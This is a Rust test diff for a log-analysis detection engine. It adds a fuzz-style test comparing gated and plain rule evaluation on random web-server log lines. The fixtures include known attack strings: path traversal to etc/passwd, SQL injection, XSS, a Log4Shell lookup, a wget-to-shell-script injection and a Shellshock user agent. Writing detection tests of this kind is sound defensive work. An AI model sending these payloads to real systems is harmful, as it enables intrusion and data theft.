@@ -111,20 +111,155 @@ fn rules_engine_default_pack_allocates_nothing_on_benign_lines() {
         .collect();
     let mut out = Vec::with_capacity(16);
     // Warm-up: keys of stateful rules (volume, distinct) are created and
-    // buffers and windows grow; afterwards more of the same must not
-    // allocate.
+    // buffers, windows and LRU queues grow to their steady size; afterwards
+    // more of the same must not allocate. A round a minute for 2 h: every
+    // time slot of the pack's longest window (1 h) has been filled and
+    // expired, at a rate no rule calls an attack.
     let run = |e: &mut Engine, rounds: std::ops::Range<i64>, out: &mut Vec<Firing>| {
         for round in rounds {
             for (i, (ev, l)) in events.iter().zip(lines).enumerate() {
-                let ts = 1_728_561_600 * S + (round * 3 + i as i64) * S / 100;
+                let ts = 1_728_561_600 * S + round * 60 * S + i as i64 * S;
                 e.evaluate(ev, l, ts, "default", out);
             }
         }
     };
-    run(&mut e, 0..50, &mut out);
+    run(&mut e, 0..120, &mut out);
     let before = counting_alloc::allocations();
-    run(&mut e, 50..100, &mut out);
+    run(&mut e, 120..240, &mut out);
     let after = counting_alloc::allocations();
     assert!(out.is_empty(), "{out:?}");
     assert_eq!(after - before, 0, "allocations on benign lines");
+}
+
+/// The shared gates (each rule visited only when its most selective
+/// necessary test passed) must fire exactly as the plain path, which runs
+/// every rule's whole filter on every line: random lines built from the
+/// pieces the rules look for, the default pack, the Sigma pack and rules
+/// whose filters are `not`, `any`, tenant-scoped or absent.
+#[test]
+fn rules_engine_gated_evaluation_fires_exactly_as_the_plain_path() {
+    let root = std::path::Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/rules"));
+    let mut specs: Vec<RuleSpec> = Vec::new();
+    for dir in [root.to_path_buf(), root.join("sigma")] {
+        let loaded = nightowl::detect::load_dir(&dir).expect("pack loads");
+        specs.extend(loaded.into_iter().map(|r| r.spec));
+    }
+    specs.extend(rules(
+        r#"
+id: not-static
+title: t
+severity: info
+match: {not: {field: path, startswith: [/static/, /img/]}}
+detect: {kind: threshold, key: client_ip, window: 1m, count: 7}
+---
+id: any-admin-or-post
+title: t
+severity: info
+match: {any: [{field: path, contains: admin}, {field: method, equals: POST}]}
+detect: {kind: distinct, key: client_ip, field: path, window: 5m, count: 3}
+---
+id: acme-only
+title: t
+severity: info
+tenant: acme
+match: {all: [{field: status, gte: 400}, {field: path, startswith: /api}]}
+detect: {kind: match, key: [client_ip, path]}
+---
+id: everything
+title: t
+severity: info
+detect: {kind: spike, key: host, window: 1m, warmup: 3, count: 5, z: 2}
+---
+id: new-agent-on-login
+title: t
+severity: info
+match: {all: [{field: path, decode: true, regex: 'log-?in'}, {field: status, lt: 400}]}
+detect: {kind: new_value, key: user_agent, learning: 20s}
+---
+id: burst-then-write
+title: t
+severity: info
+match: {field: path, startswith: /api}
+detect: {kind: sequence, key: client_ip, window: 2m, count: 2, first: {field: status, gte: 400}, then: {field: method, equals: [POST, PUT]}}
+"#,
+    ));
+    let mut gated = Engine::new(&specs).expect("rules compile");
+    let mut plain = Engine::new(&specs).expect("rules compile");
+    plain.set_plain_evaluation(true);
+
+    let hosts = ["shop.example ", "api.example ", ""];
+    let methods = ["GET", "GET", "GET", "POST", "PUT", "HEAD"];
+    let paths = [
+        "/",
+        "/login",
+        "/wp-login.php",
+        "/api/v1/items?id=1",
+        "/api/session",
+        "/static/app.js",
+        "/img/a.png",
+        "/admin/",
+        "/wp-admin/setup.php",
+        "/.env",
+        "/.git/config",
+        "/download?file=..%2f..%2fetc%2fpasswd",
+        "/item.php?id=1%20UNION%20ALL%20SELECT%20NULL--",
+        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/?x=${jndi:ldap://e/a}",
+        "/cgi-bin/;wget%20http://e/x.sh",
+        "/autodiscover/autodiscover.json?@x.com/owa/",
+        "/vpns/../vpns/cfg/smb.conf",
+        "/p?class.module.classLoader.x=1",
+        "/search?q=select+a+union+b",
+    ];
+    let agents = [
+        "Mozilla/5.0 (X11; Linux x86_64)",
+        "curl/8.5.0",
+        "sqlmap/1.7.2",
+        "() { :; }; /bin/bash -c id",
+        "Mozilla/5.0 zgrab/0.x",
+        "python-requests/2.31",
+    ];
+    let statuses = [200, 200, 200, 302, 401, 403, 404, 500, 503];
+    let mut x = 0x853c_49e6_748f_ea9bu64;
+    let mut next = move |n: usize| {
+        x ^= x << 13;
+        x ^= x >> 7;
+        x ^= x << 17;
+        (x % n as u64) as usize
+    };
+    let (mut out_gated, mut out_plain) = (Vec::new(), Vec::new());
+    let t0 = 1_728_561_600 * S;
+    for i in 0..30_000i64 {
+        let line =
+            format!(
+            "{}10.0.{}.{} - {} [10/Oct/2024:12:00:00 +0000] \"{} {} HTTP/1.1\" {} {} \"{}\" \"{}\"",
+            hosts[next(hosts.len())],
+            next(3),
+            next(6) + 1,
+            ["-", "alice", "bob", "u7"][next(4)],
+            methods[next(methods.len())],
+            paths[next(paths.len())],
+            statuses[next(statuses.len())],
+            next(3) * 400_000_000,
+            ["-", "https://shop.example/", "https://e/?q=%27%20or%201=1--"][next(3)],
+            agents[next(agents.len())],
+        );
+        let tenant = ["default", "acme"][next(2)];
+        // Mostly in order, sometimes a little late.
+        let ts = t0 + i * S / 20 - (next(4) as i64) * S;
+        let ev = parse_line(line.as_bytes(), Format::Auto, &CTX).expect("line parses");
+        gated.evaluate(&ev, &line, ts, tenant, &mut out_gated);
+        plain.evaluate(&ev, &line, ts, tenant, &mut out_plain);
+        if i % 5000 == 4999 {
+            gated.tick(ts + 20 * 60 * S, &mut out_gated);
+            plain.tick(ts + 20 * 60 * S, &mut out_plain);
+        }
+    }
+    assert_eq!(out_gated.len(), out_plain.len());
+    assert_eq!(out_gated, out_plain);
+    // Enough rules of enough kinds fired for the comparison to mean something.
+    let fired: std::collections::BTreeSet<&str> =
+        out_plain.iter().map(|f| f.rule_id.as_str()).collect();
+    assert!(fired.len() >= 20, "{} rules fired: {fired:?}", fired.len());
+    assert_eq!(gated.stats(), plain.stats());
 }
